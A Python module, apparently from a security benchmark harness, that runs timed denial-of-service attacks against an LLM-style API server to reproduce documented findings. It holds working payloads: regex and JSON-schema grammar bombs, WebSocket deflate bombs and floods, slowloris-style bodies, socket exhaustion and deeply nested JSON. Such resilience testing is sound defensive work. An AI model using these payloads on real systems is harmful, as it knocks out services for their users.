"""Attacks: each is a function that runs for some seconds against an address.

An attack runs in a process of its own. The findings that they reproduce are named A1 to A9 in
docs/security.md.
"""

import socket
import time
import zlib
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from itertools import cycle
from typing import Any

import orjson

from bench.attacks.connections import (
    Address,
    drip,
    frame,
    get,
    open_many,
    open_stream,
    open_unfinished,
    open_websocket,
    post,
)

Attack = Callable[[Address, float], None]
"""Attack on an address that ends at a time of the monotonic clock."""

_MIB = 1 << 20
_BODY_BYTES = 31 * _MIB
_RESPONSES = "/v1/responses"


def long_text(address: Address, until: float) -> None:
    """A1: texts of emoji that are expensive to tokenise."""
    body = orjson.dumps({"input": "\N{GRINNING FACE}" * (7 * _MIB)})
    _repeat(4, until, lambda: post(address, _RESPONSES, body))


def grammar_bombs(address: Address, until: float) -> None:
    """A2: schemas, patterns and grammars whose automata explode."""
    bodies = cycle([orjson.dumps({"input": "x"} | fields) for fields in _bombs()])
    _repeat(4, until, lambda: post(address, _RESPONSES, next(bodies)))


def websocket_floods(address: Address, until: float) -> None:
    """A3: frames whose answers are not read, unfinished fragments, and frames that inflate."""
    bad, large = frame(b"{") * 60_000, frame(b" " * (30 * _MIB))
    fragment = frame(b" " * _BODY_BYTES, is_last=False)
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    small = packed.compress(b"\0" * (64 * _MIB)) + packed.flush(zlib.Z_SYNC_FLUSH)[:-4]
    floods = [bad + large, *[fragment] * 10, frame(small, rsv1=True)]

    def flood(data: bytes) -> None:
        with suppress(OSError), open_websocket(address, deflates=True) as connection:
            connection.settimeout(max(0.1, until - time.monotonic()))
            connection.sendall(data)
            _wait_for_close(connection, until)

    with ThreadPoolExecutor(len(floods)) as pool:
        list(pool.map(flood, floods))


def slow_bodies(address: Address, until: float) -> None:
    """A4: 2,600 bodies at a byte in ten seconds."""
    opened = open_many(lambda: open_unfinished(address, b"{", 1000), 2600)
    drip(opened, every_s=10, until=until)


def unfinished_bodies(address: Address, until: float) -> None:
    """A4: 40 bodies of 31 MiB that lack their last byte."""
    sent = b" " * (_BODY_BYTES - 1)
    with ThreadPoolExecutor(40) as pool:
        opened = pool.map(
            lambda _: _try(lambda: open_unfinished(address, sent, _BODY_BYTES)), range(40)
        )
        drip([connection for connection in opened if connection], every_s=10, until=until)


def idle_sockets(address: Address, until: float) -> None:
    """A5: 2,000 idle WebSockets."""
    opened = open_many(lambda: open_websocket(address), 2000)
    _wait(until)
    for connection in opened:
        connection.close()


def unread_streams(address: Address, until: float) -> None:
    """A5: 500 streams that nobody reads."""
    body = orjson.dumps({"input": "Hello.", "stream": True, "max_output_tokens": 2000})
    opened = open_many(lambda: open_stream(address, body), 500)
    _wait(until)
    for connection in opened:
        connection.close()


def large_conversation(address: Address, until: float) -> None:
    """A6: 31 MB into a conversation eight times, then items of it that do not exist."""
    created = _created_id(address)
    path = f"/v1/conversations/{created}/items"
    item = {"type": "message", "role": "user", "content": "a" * _BODY_BYTES}
    body = orjson.dumps({"items": [item]})
    for _ in range(8):
        post(address, path, body)
    _repeat(6, until, lambda: get(address, f"{path}/msg_none"))


def queue_flood(address: Address, until: float) -> None:
    """A7: background responses as fast as they are taken."""
    body = orjson.dumps({"input": "Hello.", "background": True, "max_output_tokens": 64})
    _repeat(16, until, lambda: post(address, _RESPONSES, body))


def deep_json(address: Address, until: float) -> None:
    """A8: ten million arrays, and 30 MB of unknown keys."""
    arrays = b"[" + b"[]," * (10 * 1000 * 1000) + b"[]]"
    keys = b"{" + b",".join(b'"k%d":1' % number for number in range(2_400_000)) + b"}"
    bodies = cycle([b'{"input":' + arrays + b"}", keys])
    _repeat(4, until, lambda: post(address, _RESPONSES, next(bodies)))


ATTACKS: dict[str, Attack] = {
    "A1 long text": long_text,
    "A2 grammars": grammar_bombs,
    "A3 WebSocket floods": websocket_floods,
    "A4 slow bodies": slow_bodies,
    "A4 unfinished bodies": unfinished_bodies,
    "A5 idle WebSockets": idle_sockets,
    "A5 unread streams": unread_streams,
    "A6 large conversation": large_conversation,
    "A7 queue flood": queue_flood,
    "A8 JSON": deep_json,
}


def _bombs() -> Iterable[dict[str, Any]]:
    patterns = [{"pattern": f".*{chr(97 + n % 26)}{n}.*"} for n in range(40)]
    yield _schema({"type": "string", "allOf": patterns})
    yield _schema({"type": "string", "pattern": "^((a{1,50}){1,50}){1,50}$"})
    yield _schema({"$defs": {"a": {"allOf": [{"$ref": "#/$defs/a"}] * 2}}, "$ref": "#/$defs/a"})
    yield _schema({"type": "array", "items": {"enum": list(range(900))}, "minItems": 10**9})
    yield {"grammar": {"type": "regex", "value": "[ab]*a[ab]{30}"}}
    intersections = " & ".join(f"/.*{chr(97 + n % 26)}{n}.*/" for n in range(30))
    yield {"grammar": {"type": "lark", "value": f"start: A\nA: {intersections}"}}


def _schema(schema: dict[str, Any]) -> dict[str, Any]:
    return {"text": {"format": {"type": "json_schema", "name": "s", "schema": schema}}}


def _created_id(address: Address) -> str:
    with socket.create_connection(address) as connection:
        head = "POST /v1/conversations HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        length = "Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}"
        connection.sendall((head + length).encode())
        received = b"".join(iter(lambda: connection.recv(1 << 16), b""))
    return str(orjson.loads(received.partition(b"\r\n\r\n")[2])["id"])


def _repeat(num_threads: int, until: float, send: Callable[[], object]) -> None:
    """Send from several threads, each as soon as it is answered."""

    def run(_: int) -> None:
        while time.monotonic() < until:
            send()

    with ThreadPoolExecutor(num_threads) as pool:
        list(pool.map(run, range(num_threads)))


def _try(open_one: Callable[[], socket.socket]) -> socket.socket | None:
    try:
        return open_one()
    except OSError:
        return None


def _wait_for_close(connection: socket.socket, until: float) -> None:
    _wait(until)  # without reading: what the server answers stays with it
    connection.close()


def _wait(until: float) -> None:
    time.sleep(max(0.0, until - time.monotonic()))
